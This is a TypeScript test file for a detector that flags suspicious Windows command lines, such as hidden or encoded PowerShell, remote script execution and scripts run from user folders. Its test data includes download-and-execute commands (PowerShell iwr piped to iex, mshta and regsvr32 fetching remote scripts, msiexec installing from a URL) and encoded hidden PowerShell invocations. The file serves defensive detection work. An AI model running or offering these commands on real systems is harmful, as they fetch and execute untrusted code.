import { expect, test } from 'vitest';
import { commandTraits, type CommandTrait } from './command_line';

test.each<[string, string, CommandTrait[]]>([
  [
    'powershell.exe',
    'powershell.exe -nop -w hidden -enc bQBhAGQAZQA=',
    ['hidden_or_encoded_command'],
  ],
  ['powershell.exe', 'powershell -WindowStyle Hidden -c x', ['hidden_or_encoded_command']],
  ['pwsh.exe', 'pwsh -EncodedCommand bQBhAGQAZQA=', ['hidden_or_encoded_command']],
  ['powershell.exe', 'powershell /e bQBhAGQAZQA=', ['hidden_or_encoded_command']],
  ['pwsh.exe', '"C:\\x\\pwsh.exe" -NoProfile -File D:\\Jobs\\egress.ps1', []],
  ['powershell.exe', 'powershell -ExecutionPolicy Bypass -File C:\\Jobs\\a.ps1', []],
  ['curl.exe', 'curl -e http://x.example -w hidden https://y.example', []],
  ['powershell.exe', 'powershell -c "iwr https://x.example/s | iex"', ['remote_script']],
  ['mshta.exe', 'mshta.exe https://x.example/v.hta', ['remote_script']],
  ['mshta.exe', 'mshta vbscript:Execute("x")', ['remote_script']],
  ['regsvr32.exe', 'regsvr32.exe /s /i:\\\\files.example\\x.sct scrobj.dll', ['remote_script']],
  ['msiexec.exe', 'msiexec /i https://x.example/a.msi', ['remote_script']],
  ['msiexec.exe', 'msiexec /i C:\\ccmcache\\a.msi', []],
  ['cmd.exe', 'cmd.exe /c C:\\Users\\p\\AppData\\Local\\Temp\\wk.bat', ['script_from_user_folder']],
  ['wscript.exe', 'wscript.exe "C:\\Users\\a b\\x y.vbs"', ['script_from_user_folder']],
  ['cmd.exe', 'cmd /c %TEMP%\\a.cmd', ['script_from_user_folder']],
  ['wscript.exe', 'wscript.exe C:\\Windows\\System32\\slmgr.vbs', []],
  ['java.exe', 'java.exe -jar C:\\Users\\me\\a.jar --selftest', []],
  ['rundll32.exe', 'rundll32.exe E:\\data\\render.dat,#1', []],
  ['python.exe', '"C:\\Program Files\\L\\python.exe" -E "C:\\Program Files\\L\\c.pyc"', []],
  ['cmd.exe', '', []],
])('%s: %s', (name, commandLine, traits) => {
  expect(commandTraits(commandLine, [name])).toEqual(traits);
});

test('a long command line takes no long time', () => {
  const hostile = `-e ${'a '.repeat(50_000)}${'"'.repeat(50_000)}${'-w '.repeat(10_000)}`;
  expect(commandTraits(hostile, ['powershell.exe'])).toEqual([]);
});
